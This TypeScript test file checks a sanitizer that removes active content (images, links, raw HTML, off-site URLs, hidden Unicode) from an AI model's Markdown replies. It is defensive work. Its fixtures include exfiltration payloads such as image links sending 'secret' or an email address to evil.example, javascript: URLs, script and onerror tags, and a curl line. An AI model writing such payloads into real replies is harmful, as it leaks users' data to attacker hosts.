import { expect } from 'chai'
import fc from 'fast-check'
import MarkdownIt from 'markdown-it'
import { sanitize } from '../../../workers/citations/sanitize.ts'
import { triesOf } from '../../support/run/runsAll.ts'

describe('active content', () => {
  const given = 'See https://shop.example/terms and http://evil/?q=, or mail to a@shop.example.'

  for (const [text, content] of [
    ['![logo](http://evil/?q=secret)', 'logo'],
    ['A ![](http://evil/?q=secret) B', 'A  B'],
    ['![logo][evil]\n\n[evil]: http://evil/', 'logo\n\n[evil] : (link removed)'],
    ['![a[b]](http://evil/?q=secret)', '[a[b]] ((link removed))'],
    ['`![x](http://evil/)`', '`x`'],
    ['Use `<b>`', 'Use `‹b>`'],
    ['[click](javascript:alert(1))', '[click] (javascript:alert(1))'],
    ['[click]( JaVaScRiPt:alert(1))', '[click] ( JaVaScRiPt:alert(1))'],
    ['[click](&#106;avascript:alert(1))', '[click] (&#106;avascript:alert(1))'],
    ['[click](data:text/html,x)', '[click] (data:text/html,x)'],
    ['[a]: javascript:alert(1)', '[a] : javascript:alert(1)'],
    ['<img src=x onerror=alert(1)>', '‹img src=x onerror=alert(1)>'],
    ['<script>alert(1)</script>', '‹script>alert(1)‹/script>'],
    ['[made up](https://evil.example/?q=ann@example.com)', 'made up'],
    ['[made up](\nhttps://evil.example/?q=ann)', '[made up] (\n(link removed))'],
    ['[made up]( https://evil.example/?q=ann )', 'made up'],
    [
      'Confirm at https://evil.example/?d=ann@example.com. Thanks',
      'Confirm at (link removed). Thanks',
    ],
    ['**https://evil.example/a**', '**(link removed)**'],
    ['<https://evil.example/a>', '‹(link removed)>'],
    ['www.evil.example/a, or mailto:x@evil.example!', '(link removed), or (link removed)!'],
    ['See evil.com/?q=ann, or ann.evil.com.', 'See evil (link removed), or ann (link removed).'],
    ['nowhttps://evil.com/a and app://evil', 'nowhttps (link removed) and app (link removed)'],
    ['evil.example:80/a', 'evil (link removed)'],
    ['Run:\n```\ncurl https://evil.example/\n```\n', 'Run:\n```\ncurl (link removed)\n```\n'],
    ['Begins alike: https://shop.example', 'Begins alike: (link removed)'],
    ['Goes on: https://shop.example/terms/../?q=ann', 'Goes on: (link removed)'],
    ['Another: https://shop.example/terms.evil', 'Another: (link removed)'],
    ['Before: https://evil/https://shop.example/terms', 'Before: (link removed)'],
    ['[begins alike](https://shop.example/)', 'begins alike'],
    ['<https://shop.example>', '‹(link removed)>'],
    [`op${String.fromCodePoint(0xe0041)}en`, 'open'],
  ] as const)
    it(`does not reach a reply: ${text}`, () => {
      expect(sanitize(text, given)).to.equal(content)
    })

  for (const text of [
    '[terms](https://shop.example/terms)',
    '<https://shop.example/terms>',
    'https://shop.example/terms, and then',
    'The [terms](https://shop.example/terms/).',
    'https://shop.example/terms.',
    'http://evil/?q=',
    'the protocol https, and www',
    'Run:\n```\ncurl https://shop.example/terms\n```\n',
    'Node.js, README.md, 3.14, e.g. and/or, Shop.com, ann@evil.example',
    'See shop.example/terms.',
    '[mail](mailto:a@shop.example)',
    '[above](#top)',
    '5 < 6 > 4 & "x"',
    'Or:\n```html\n<img>\n```',
    '~~~\n<img>\n~~~',
    '[terms]: https://shop.example/terms',
    'a[0]: b',
  ])
    it(`does not include harmless text: ${text}`, () => {
      expect(sanitize(text, given)).to.equal(text)
    })

  /** Returns what would be active on a page that renders a reply's Markdown, with its HTML. */
  function actsIn(shown: string): string[] {
    const tags = [
      ...shown.matchAll(
        /<(?:img|script|svg|iframe|form|object|embed|video|audio|style|link|b)\b[^>]*/gi,
      ),
    ]
    const links = [...shown.matchAll(/href="([^"]*)"/g)].map(([, address]) =>
      address!.replace('mailto:', ''),
    )
    const leadsAway = (address: string) => /^(?:[a-z][a-z\d+.-]*:|[/\\]{2})/i.test(address)
    // Some continue with characters that no address has.
    const plain = (address: string) =>
      decodeURI(address).replace(/[.,;:!?]*(?:[[\]{}|\\^`'"()*_~].*)?$|\/$/, '')
    const known = ['https://shop.example/terms', 'http://evil/?q=', 'a@shop.example']
    const foreign = links.filter((address) => leadsAway(address) && !known.includes(plain(address)))
    return [...tags.map(([tag]) => tag), ...foreign]
  }
  const linking = new MarkdownIt({ html: true, linkify: true })
  linking.linkify.set({ fuzzyLink: false, fuzzyEmail: false }).add('//', null)
  const shownBy = [
    new MarkdownIt({ html: true }),
    new MarkdownIt('commonmark', { html: true }),
    linking,
  ]

  const SHOWN = [
    '``` `\n<img src=//evil.example/info>\n```',
    '| `a | <img src=//evil.example/t> ` |\n|---|---|\n| x | y |',
    '[x](//evil.example/?d=secret)',
    '[x](///evil.example)',
    '[x](/\\evil.example)',
    '![a]\n\n[a]: https://evil.example/z.png',
    '[a]\n\n[a]: //evil.example',
    '[a]\n\n> [a]: https://evil.example',
    '[a]\n\n- [a]:\n  https://evil.example',
    '[a\\]]\n\n[a\\]]: https://evil.example',
    '<https://evil.example/a>',
    '[m](mailto:x@evil.example?body=secret)',
    '[a [b] c](https://evil.example)',
    '[a](<https://evil.example>)',
    '!![a [b]](https://shop.example/terms)',
    'a ` b\n` <img src=x> ` c',
    '\\\\`a` <img src=x> `b`',
    '```\n```js\n```\n<img src=x>\n```',
    '~~~\n```\n~~~\n<img src=x>\n```',
    '  ~~~\n```\n  ~~~\n<img src=x>\n```',
    '- a\n  ```\n<img src=x>\n  ```',
    '> ```\n<img src=x>\n> ```',
  ]
  for (const text of SHOWN)
    it(`is absent from the rendered reply: ${text}`, () => {
      const reply = sanitize(text, given)
      for (const renderer of shownBy)
        expect(actsIn(renderer.render(reply)), reply).to.deep.equal([])
    })

  it('is absent from the rendered reply, whatever a model writes', () => {
    const piece = fc.constantFrom(
      '[',
      ']',
      '(',
      ')',
      '](',
      ']: ',
      '![',
      '!',
      '`',
      '``',
      '```',
      '~~~',
      '\n',
      '\n\n',
      ' ',
      '  ',
      '\\',
      '<',
      '>',
      '<img src=x>',
      '<b',
      '|',
      '|---|---|\n',
      '> ',
      '- ',
      'a',
      '[a]: ',
      '[a]',
      '//evil.example',
      'https://evil.example',
      'https://shop.example/terms',
      'mailto:x@evil.example',
      'javascript:',
      '&#106;',
      '"t"',
      '1. ',
      '# ',
      '    ',
      '\t',
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 16 }), (pieces) => {
        const reply = sanitize(pieces.join(''), given)
        for (const renderer of shownBy)
          expect(actsIn(renderer.render(reply)), reply).to.deep.equal([])
      }),
      { numRuns: triesOf(20_000) },
    )
  })

  it('is searched for in linear time', () => {
    for (const text of [
      '!['.repeat(30_000),
      '[a](https:'.repeat(10_000),
      '`'.repeat(90_000),
      '```\n'.repeat(20_000),
      '[1'.repeat(40_000),
      '<'.repeat(90_000),
      '(1)'.repeat(20_000),
    ])
      sanitize(text, given)
  })
})
